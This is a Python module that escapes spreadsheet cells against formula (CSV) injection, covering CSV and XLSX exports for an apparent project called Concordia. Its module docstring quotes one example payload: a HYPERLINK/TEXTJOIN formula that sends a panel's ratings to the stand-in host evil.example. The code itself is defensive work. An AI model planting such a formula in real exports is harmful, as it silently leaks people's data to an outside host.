"""One escaping step for every cell Concordia writes into a spreadsheet (CSV or XLSX).

A spreadsheet program runs a cell as a formula when its text starts with ``=``, ``+``,
``-`` or ``@`` (and some also after a leading tab or carriage return): an expert's comment
``=HYPERLINK("https://evil.example/?"&TEXTJOIN(…'Raw ratings'!A:Z…),"click")`` would send
the whole panel's ratings away on one click in the coordinator's copy of Excel. openpyxl
even stores such a string as a formula cell. OWASP's advice (CSV injection) is followed:
such text gets a leading apostrophe, which the spreadsheet shows as text.

Every export goes through this module:

- :func:`safe_cell` for a single value (numbers, dates and ``None`` pass unchanged);
- :func:`csv_bytes` for a whole CSV file (UTF-8 with a byte-order mark so that Excel shows
  Chinese, comma-separated, CRLF line ends);
- :func:`append_row` to add a row to an openpyxl worksheet (also drops the control
  characters XML cannot hold, which openpyxl would refuse with an exception).
"""
from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# XML 1.0 cannot hold these; openpyxl raises IllegalCharacterError on them.
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


def safe_cell(value):
    """``value`` made safe for a spreadsheet cell.

    Strings starting with one of ``= + - @``, a tab or a carriage return (after any
    apostrophes, so that :func:`unescape_cell` restores the text exactly) get a leading
    ``'`` so that no spreadsheet program evaluates them; every other value (numbers,
    dates, booleans, ``None``) is returned as it is, so numbers stay numbers.

    Examples
    --------
    >>> safe_cell("=1+1"), safe_cell("-3 points"), safe_cell("plain"), safe_cell(-3)
    ("'=1+1", "'-3 points", 'plain', -3)
    """
    if isinstance(value, str) and value.lstrip("'").startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def unescape_cell(text: str) -> str:
    """The inverse of :func:`safe_cell` for text read back from our own exports (imports)."""
    if text.startswith("'") and text.lstrip("'").startswith(FORMULA_TRIGGERS):
        return text[1:]
    return text


def csv_bytes(header: Sequence | None, rows: Iterable[Sequence], *, bom: bool = True) -> bytes:
    """A CSV file (bytes) with every cell passed through :func:`safe_cell`.

    ``None`` is written as an empty cell. UTF-8 with a byte-order mark by default
    (Excel then reads Chinese), CRLF line ends.
    """
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    if header is not None:
        writer.writerow([_csv_value(v) for v in header])
    for row in rows:
        writer.writerow([_csv_value(v) for v in row])
    return (("\ufeff" if bom else "") + buffer.getvalue()).encode("utf-8", "replace")


def _csv_value(value):
    return "" if value is None else safe_cell(value)


def xlsx_value(value):
    """A value for an openpyxl cell: :func:`safe_cell`, minus characters XML cannot hold."""
    value = safe_cell(value)
    if isinstance(value, str):
        value = _XML_ILLEGAL.sub("", value)
    return value


def append_row(sheet, row: Sequence) -> None:
    """Append ``row`` to an openpyxl worksheet; no cell of it can become a formula."""
    sheet.append([xlsx_value(v) for v in row])
    for cell in sheet[sheet.max_row]:
        if cell.data_type == "f":  # cannot happen after safe_cell; kept as a last guard
            cell.data_type = "s"
